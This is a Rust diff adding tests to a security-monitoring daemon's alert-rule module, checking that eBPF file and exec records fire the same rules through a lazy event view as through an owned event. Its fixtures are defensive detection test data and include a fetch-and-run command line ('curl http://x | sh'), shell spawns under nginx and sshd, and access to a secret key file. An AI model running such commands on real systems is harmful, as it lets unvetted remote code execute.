@@ -16,7 +16,7 @@ use crate::verdict_log::RuleInfo;
 use siem_export::event::{EventId, Verdict};
 use siem_export::SecurityEvent;
 
-pub use enforcer::alert_rules::{operations, owned_event, AlertRules};
+pub use enforcer::alert_rules::AlertRules;
 
 /// The event of alert `rule` firing on `base`: the same process, workload and target, a
 /// new id, verdict `alerted`, and the rule's names, message, severity and tags.
@@ -42,6 +42,7 @@ mod tests {
     use super::*;
     use crate::verdict_log::Names;
     use bpf_lsm::Record;
+    use enforcer::alert_rules::{operations, owned_event};
     use policy_lang::event::Operation;
     use policy_lang::model::FileOp;
     use policy_lang::plan::Plan;
@@ -152,11 +153,55 @@ policies:
         assert_eq!(rules.fired(0b11, &o), vec![1]);
     }
 
+    /// The daemon's path (class and scope filter, the lazy view of the event) decides as
+    /// the owned event does, on every class and scope.
     #[test]
-    fn a_verdict_is_one_operation_per_access_bit() {
+    fn the_lazy_view_decides_as_the_owned_event() {
         let p = plan(POLICIES);
         let rules = AlertRules::new(&p, vec![0, 1]).unwrap();
-        let rec = bpf_lsm::FileRecord {
+        let file = |op: FileOp, path: &str| Operation::File {
+            op,
+            path: path.into(),
+        };
+        let events = [
+            base("/bin/sh", &["sh", "-c", "id"], "/usr/sbin/nginx"),
+            base(
+                "/bin/bash",
+                &["bash", "-c", "curl http://x | sh"],
+                "/sbin/init",
+            ),
+            base("/bin/sh", &["sh"], "/usr/sbin/sshd"),
+        ];
+        let ops = [
+            Operation::Exec {
+                path: "/usr/bin/id".into(),
+                cmdline: String::new(),
+            },
+            file(FileOp::Write, "/etc/secret/key"),
+            file(FileOp::Read, "/etc/secret/key"),
+        ];
+        let mut fired = 0;
+        for ev in &events {
+            for slots in [0b00, 0b01, 0b10, 0b11] {
+                for op in &ops {
+                    let want = rules.fired(slots, &owned_event(ev, op.clone()));
+                    fired += want.len();
+                    assert_eq!(rules.fired_on(slots, ev, std::slice::from_ref(op)), want);
+                }
+                let mut o = owned_event(ev, ops[0].clone());
+                let want = rules.fired_any(slots, &mut o, ops.to_vec());
+                assert_eq!(rules.fired_on(slots, ev, &ops), want);
+            }
+        }
+        // Not vacuous: every rule fires somewhere.
+        assert!(fired >= 3);
+        // A file record reaches only the `files` rule, and not at all out of its scope.
+        assert_eq!(rules.classes(0b01), policy_lang::event::class::ALL);
+        assert_eq!(rules.classes(0b10), policy_lang::event::class::FILE);
+    }
+
+    fn rec_of(access: u32) -> bpf_lsm::FileRecord {
+        bpf_lsm::FileRecord {
             header: bpf_lsm::Header {
                 action: bpf_lsm::Action::Audit,
                 ktime_ns: 1,
@@ -173,15 +218,28 @@ policies:
             },
             f_flags: 2,
             f_mode: 3,
-            access: FileOp::Read.bit() | FileOp::Write.bit(),
+            access,
             path: b"/etc/secret/key".to_vec(),
-        };
+        }
+    }
+
+    #[test]
+    fn a_verdict_is_one_operation_per_access_bit() {
+        let p = plan(POLICIES);
+        let rules = AlertRules::new(&p, vec![0, 1]).unwrap();
+        let rec = rec_of(FileOp::Read.bit() | FileOp::Write.bit());
         let ops = operations(&Record::FileOpen(rec));
         assert_eq!(ops.len(), 2);
         let ev = base("/bin/sh", &["sh"], "/sbin/init");
         let mut o = owned_event(&ev, ops[0].clone());
         assert_eq!(rules.fired_any(0b10, &mut o, ops.clone()), vec![2]);
         assert!(rules.fired_any(0b01, &mut o, ops).is_empty());
+        let rec = Record::FileOpen(rec_of(FileOp::Read.bit() | FileOp::Write.bit()));
+        assert_eq!(rules.fired_record(0b10, &rec, &ev), vec![2]);
+        assert!(rules.fired_record(0b01, &rec, &ev).is_empty());
+        // Read only: the rule wants a write.
+        let rec = Record::FileOpen(rec_of(FileOp::Read.bit()));
+        assert!(rules.fired_record(0b11, &rec, &ev).is_empty());
     }
 
     #[test]
